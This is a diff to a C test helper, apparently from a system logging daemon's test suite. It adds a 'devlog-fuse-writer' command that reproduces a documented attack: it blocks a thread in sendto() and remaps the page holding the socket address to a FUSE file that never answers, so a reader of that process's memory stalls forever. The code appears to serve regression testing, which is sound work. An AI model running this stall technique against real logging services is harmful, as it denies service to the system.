@@ -9,16 +9,22 @@
  *   status-tool watch-forge PATH PID   (arm a slot naming PID, claimed before it started)
  *   status-tool watch-hold PATH MODE NFDS   (a login that attacks the table, see there)
  *   status-tool watch-catch PATH PID   (stop PID between its claim and its arm, see there)
+ *   status-tool devlog-fuse-writer SOCK FILE  (a writer whose address is FUSE's, see there)
  * `read` prints the keys, or "verdict=..." and exits 1 when rejected; `breaker` prints
  * "verdict=absent" (missing or another boot's) and exits 1.
  */
 #include <errno.h>
 #include <fcntl.h>
 #include <libgen.h>
+#include <pthread.h>
 #include <signal.h>
 #include <stdio.h>
 #include <string.h>
+#include <sys/mman.h>
 #include <sys/resource.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/un.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -353,7 +359,83 @@ static int cmd_watch_hold(const char *path, const char *mode, const char *nfds) 
         return 0;
 }
 
+typedef struct FuseWriter {
+        int fd;
+        const struct sockaddr_un *addr;
+        pid_t tid;
+} FuseWriter;
+
+static void *send_until_blocked(void *p) {
+        FuseWriter *w = p;
+
+        __atomic_store_n(&w->tid, (pid_t) syscall(SYS_gettid), __ATOMIC_RELEASE);
+        for (unsigned i = 0;; i++) {
+                char msg[64];
+                int n = snprintf(msg, sizeof(msg), "<13>lgtest: fuse-%u", i);
+
+                if (sendto(w->fd, msg, (size_t) n, 0, (const struct sockaddr *) w->addr,
+                           sizeof(*w->addr)) < 0 &&
+                    errno != EINTR)
+                        return NULL;
+        }
+}
+
+/* Whether thread @tid sleeps in sendto() (its /proc syscall line). */
+static bool in_sendto(pid_t tid) {
+        char path[64], buf[64] = "";
+        _cleanup_close_ int fd = -EBADF;
+
+        (void) snprintf(path, sizeof(path), "/proc/self/task/%d/syscall", (int) tid);
+        fd = open(path, O_RDONLY | O_CLOEXEC);
+        if (fd < 0 || read(fd, buf, sizeof(buf) - 1) <= 0)
+                return false;
+        return strncmp(buf, "44 ", 3) == 0;
+}
+
+/* devlog-fuse-writer SOCK FILE: issue 24's FUSE attack on the /dev/log
+ * census. A thread sends datagrams to SOCK, unconnected, from an address
+ * in a page of our own, until it sleeps in sendto() (the reader's queue is
+ * full). Then that page is replaced by a mapping of FILE, a FUSE file whose
+ * reads are never answered: whoever reads the sleeping call's address from
+ * our memory (process_vm_readv, /proc/PID/mem) waits for FUSE forever.
+ * Prints "page=ADDRESS" and waits until killed. */
+static int cmd_devlog_fuse_writer(const char *sock, const char *file) {
+        long page = sysconf(_SC_PAGESIZE);
+        struct sockaddr_un *a;
+        FuseWriter w = {};
+        pthread_t t;
+        unsigned asleep = 0;
+        int ffd;
+
+        a = mmap(NULL, (size_t) page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+        if (a == MAP_FAILED || strlen(sock) >= sizeof(a->sun_path))
+                return 1;
+        a->sun_family = AF_UNIX;
+        memcpy(a->sun_path, sock, strlen(sock) + 1);
+        w = (FuseWriter){ .fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), .addr = a };
+        if (w.fd < 0 || pthread_create(&t, NULL, send_until_blocked, &w) != 0)
+                return 1;
+        for (unsigned i = 0; i < 600 && asleep < 5; i++) {
+                pid_t tid = __atomic_load_n(&w.tid, __ATOMIC_ACQUIRE);
+
+                asleep = tid > 0 && in_sendto(tid) ? asleep + 1 : 0;
+                (void) usleep(100000);
+        }
+        if (asleep < 5)
+                return 1;
+        ffd = open(file, O_RDONLY | O_CLOEXEC);
+        if (ffd < 0 ||
+            mmap(a, (size_t) page, PROT_READ, MAP_SHARED | MAP_FIXED, ffd, 0) == MAP_FAILED)
+                return 1;
+        printf("page=%lx\n", (unsigned long) a);
+        (void) fflush(stdout);
+        for (;;)
+                (void) pause();
+}
+
 int main(int argc, char **argv) {
+        if (argc == 4 && strcmp(argv[1], "devlog-fuse-writer") == 0)
+                return cmd_devlog_fuse_writer(argv[2], argv[3]);
         if (argc == 5 && strcmp(argv[1], "watch-hold") == 0)
                 return cmd_watch_hold(argv[2], argv[3], argv[4]);
         if (argc == 3 && strcmp(argv[1], "watch") == 0)
